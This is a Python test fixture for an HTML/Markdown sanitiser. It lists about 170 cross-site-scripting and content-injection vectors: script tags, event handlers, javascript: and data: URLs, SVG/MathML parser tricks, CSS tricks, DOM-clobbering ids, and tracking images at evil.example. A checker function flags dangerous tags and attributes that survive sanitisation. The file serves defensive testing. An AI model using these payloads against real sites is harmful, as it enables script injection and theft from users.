"""Pages that try to run something, or to stand for what is ours: each must show as text or vanish. Used wherever a page
is shown. Every vector that runs calls `window.ran(…)`, loads an image named `ran`, or sets the title to `ran`."""

from __future__ import annotations

import re

RUN = "ran(1)"
_PLAIN: tuple[str, ...] = (
    # Scripts, and what they hide in.
    "<script>ran(1)</script>", "<SCRIPT SRC=//evil.example/ran.js></SCRIPT>", "<script/x>ran(1)</script>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>", "<script\n>ran(1)</script\n>", "text <script>ran(1)</script> text",
    "<script type=module>ran(1)</script>", "<script>ran(1)//", "<<script>ran(1)//<</script>", "<script\x0b>ran(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\"></noscript>", "- <script>ran(1)</script>",
    "| a |\n|---|\n| <script>ran(1)</script> |", "> <script>ran(1)</script>", "# <script>ran(1)</script>",
    # Event attributes.
    "<img src=x onerror=ran(1)>", "<img src=x onerror=\"ran(1)\">", "<img/src=x/onerror=ran(1)>", "<IMG SRC=x OnErRoR=ran(1)>",
    "<img src=`x`onerror=ran(1)>", "<img \"\"\"><img src=x onerror=ran(1)>\">", "<body onload=ran(1)>", "<p onclick=ran(1)>a</p>",
    "<details open ontoggle=ran(1)><summary>a</summary></details>", "<a href=x onmouseover=ran(1)>a</a>",
    "<input autofocus onfocus=ran(1)>", "<video><source onerror=ran(1)></video>", "<audio src=x onerror=ran(1)>",
    "<marquee onstart=ran(1)>a</marquee>", "<div onpointerenter=ran(1)>a</div>", "<b onbeforetoggle=ran(1)>a</b>",
    "<img src=x\nonerror\n=\nran(1)\n>", "<div style=\"animation-name:x\" onanimationstart=ran(1)>a</div>",
    "<p/onclick=ran(1)>a</p>", "<p\x0conclick=ran(1)>a</p>", "<p title='a'onclick=ran(1)>a</p>", "<br onload=ran(1)>",
    # Addresses that run, in every spelling.
    "[a](javascript:ran(1))", "[a](JaVaScRiPt:ran(1))", "[a](javascript&colon;ran(1))", "[a](java&#x0A;script:ran(1))",
    "[a](&#106;avascript:ran(1))", "[a](javascript://evil.example/%0aran(1))", "[a](<java\tscript:ran(1)>)",
    "[a](\\javascript:ran(1))", "[a](vbscript:ran(1))", "[a](data:text/html,<script>ran(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)", "![a](javascript:ran(1))", "![a](data:image/svg+xml,<svg/onload=ran(1)>)",
    "[a][r]\n\n[r]: javascript:ran(1)", "<javascript:ran(1)>", "<JAVASCRIPT:ran(1)>", "[a](file:///etc/passwd)", "[a](blob:ran(1))",
    "<a href=\"javascript:ran(1)\">a</a>", "<a href=\" &#14; javascript:ran(1)\">a</a>", "<a href='java\nscript:ran(1)'>a</a>",
    "<a href=\"jav&#x09;ascript:ran(1)\">a</a>", "<a href=javascript&colon;ran(1)>a</a>", "<a href=\"data:text/html,ran\">a</a>",
    "<a href=\"\x01javascript:ran(1)\">a</a>", "<img src=\"javascript:ran(1)\">", "<table background=\"javascript:ran(1)\"><tr><td>a</table>",
    "<form action=javascript:ran(1)><input type=submit></form>", "<button formaction=javascript:ran(1)>a</button>",
    "<a href=\"javascript&NewLine;:ran(1)\">a</a>", "<base href=\"javascript:ran(1)//\"><a href=x>a</a>", "[a](\x00javascript:ran(1))",
    "[a](view-source:javascript:ran(1))", "[a](intent://x#Intent;scheme=javascript;end)", "<area href=javascript:ran(1)>",
    # Frames, objects, documents within the document.
    "<iframe src=javascript:ran(1)></iframe>", "<iframe srcdoc=\"<script>parent.ran(1)</script>\"></iframe>",
    "<iframe src=//evil.example></iframe>", "<object data=javascript:ran(1)></object>", "<embed src=javascript:ran(1)>",
    "<frameset onload=ran(1)><frame></frameset>", "<portal src=//evil.example></portal>", "<applet code=x></applet>",
    "<meta http-equiv=refresh content=\"0;url=javascript:ran(1)\">", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=data:text/html,ran>", "<isindex type=image src=1 onerror=ran(1)>", "<fencedframe></fencedframe>",
    # Other languages of markup, and what moves when it is parsed twice.
    "<svg onload=ran(1)></svg>", "<svg><script>ran(1)</script></svg>", "<svg><animate onbegin=ran(1) attributeName=x></svg>",
    "<svg><a xlink:href=\"javascript:ran(1)\"><text>a</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg/>#x\"/></svg>",
    "<svg><set attributeName=href to=javascript:ran(1)></svg>", "<svg><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=ran(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=ran(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><img src=x onerror=ran(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>",
    "<math href=\"javascript:ran(1)\">a</math>", "<math><maction actiontype=statusline xlink:href=javascript:ran(1)>a</maction></math>",
    "<template><script>ran(1)</script></template>", "<template shadowrootmode=open><img src=x onerror=ran(1)></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=ran(1)>\">", "<textarea><img title=\"</textarea><img src=x onerror=ran(1)>\">",
    "<title><a title=\"</title><img src=x onerror=ran(1)>\">", "<noembed><img title=\"</noembed><img src onerror=ran(1)>\"></noembed>",
    "<plaintext><img src=x onerror=ran(1)>", "<select><option><style></option></select><img src=x onerror=ran(1)></style>",
    "<![CDATA[<img src=x onerror=ran(1)>]]>", "<!--><img src=x onerror=ran(1)>-->", "<!-- --!><img src=x onerror=ran(1)> -->",
    "<!-- <!-- --><img src=x onerror=ran(1)>", "<?xml version=\"1.0\"?><img src=x onerror=ran(1)>", "<!DOCTYPE x [<!ENTITY y \"ran\">]>",
    "<a href=\"x\" title=\"\n\n**a**\n\n\"><img src=x onerror=ran(1)>", "<div title=\"\n\n<img src=x onerror=ran(1)>\n\n\">",
    "<table><td><table><td><svg><style>*{}</table><img src=x onerror=ran(1)>",
    # Style.
    "<style>@import '//evil.example/ran.css';</style>", "<p style=\"background:url(javascript:ran(1))\">a</p>",
    "<p style=\"width:expression(ran(1))\">a</p>", "<p style=\"position:fixed;inset:0;z-index:9999\">all of it</p>",
    "<div style=\"-moz-binding:url(//evil.example/x.xml)\">a</div>", "<style>body{display:none}</style>",
    # Standing for what is ours.
    "<a id=csrf>a</a>", "<a id=main>a</a>", "<a name=body>a</a>", "<img name=cookie src=x>", "<form id=csrf><input name=csrf></form>",
    "<form name=getElementById></form>", "<a id=document name=location>a</a>", "<p class=\"inset\" data-copy hx-get=\"/x\">a</p>",
    "<div data-o=\"ob000000000000000000000000i0\"></div>", "<p data-diagram=mermaid hx-on:load=ran(1)>a</p>", "# Csrf\n\n# Main",
    "<p role=button aria-label=Run tabindex=0>a</p>", "<span slot=x is=x-y part=z>a</span>", "<a id=\"x&quot; onclick=&quot;ran(1)\">a</a>",
    # Words that become attributes: titles, alternative texts, languages, footnotes, front matter.
    "[a](x '\" onclick=\"ran(1)')", "![\" onerror=\"ran(1)](x.png)", "![a](x.png '\" onerror=\"ran(1)')", "```\"><img/src=x/onerror=ran(1)>\na\n```",
    "```js\" onclick=\"ran(1)\na\n```", "```mermaid\n%%{init: {\"securityLevel\":\"loose\"}}%%\ngraph TD; A[\"<img src=x onerror=ran(1)>\"]\n```",
    "a[^\"onclick=ran(1)]\n\n[^\"onclick=ran(1)]: b", "---\ntitle: \"<img src=x onerror=ran(1)>\"\n<script>: 1\n---\n# a",
    "[a](\"><img src=x onerror=ran(1)>)", "[a](<\"><img src=x onerror=ran(1)>>)", "<http://a.example/\"onclick=\"ran(1)>",
    "https://a.example/\"onmouseover=\"ran(1)", "[<img src=x onerror=ran(1)>](x)", "# a {#\"onclick=ran(1)}", "`<img src=x onerror=ran(1)>`",
    # Tracking: nothing may be asked of another host.
    "![a](https://evil.example/ran.png)", "<img src=https://evil.example/ran.png>", "<img srcset=\"https://evil.example/ran.png 2x\">",
    "<picture><source srcset=https://evil.example/ran.png><img src=x></picture>", "<img src=//evil.example/ran.png>",
    "<video poster=https://evil.example/ran.png></video>", "<img src=x lowsrc=https://evil.example/ran.png>", "![a](//evil.example/ran.png)",
    "<input type=image src=https://evil.example/ran.png>", "<svg><image href=https://evil.example/ran.png></svg>",
)  # fmt: skip
VECTORS: tuple[str, ...] = tuple(dict.fromkeys(_PLAIN))
_TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)((?:[^\"'>]|\"[^\"]*\"|'[^']*')*)>")
_ATTRIBUTE = re.compile(r"([^\s\"'=/]+)(?:=\"([^\"]*)\")?")
_NEVER = frozenset(
    "script style iframe object embed svg math form button textarea select template noscript meta link title frame"
    " frameset video audio source base plaintext xmp applet portal area marquee body html head".split()
)


def dangers(html: str) -> list[str]:
    """What of a piece of HTML, as the sanitiser writes it, could run, load from elsewhere or stand for what is ours."""
    found = []
    for closing, tag, attributes in _TAG.findall(html):
        if tag.lower() in _NEVER:
            found.append(f"<{closing}{tag}>")
        for name, value in _ATTRIBUTE.findall(attributes):
            bare = re.sub(r"[\x00-\x20]", "", value.lower())
            if name.lower().startswith("on") or name.lower() in ("style", "srcdoc", "srcset", "name", "formaction"):
                found.append(f"{tag} {name}")
            if name == "src" and not bare.startswith("/files/"):
                found.append(f"{tag} src {value}")
            if name == "href" and not re.match(r"(?:/book|/files/|#|https?://|mailto:)", bare):
                found.append(f"{tag} href {value}")
            if name == "id" and value in ("csrf", "main", "body", "head"):
                found.append(f"id {value}")
            if name.startswith("hx-") or name == "data-o":
                found.append(f"{tag} {name}")
    return found
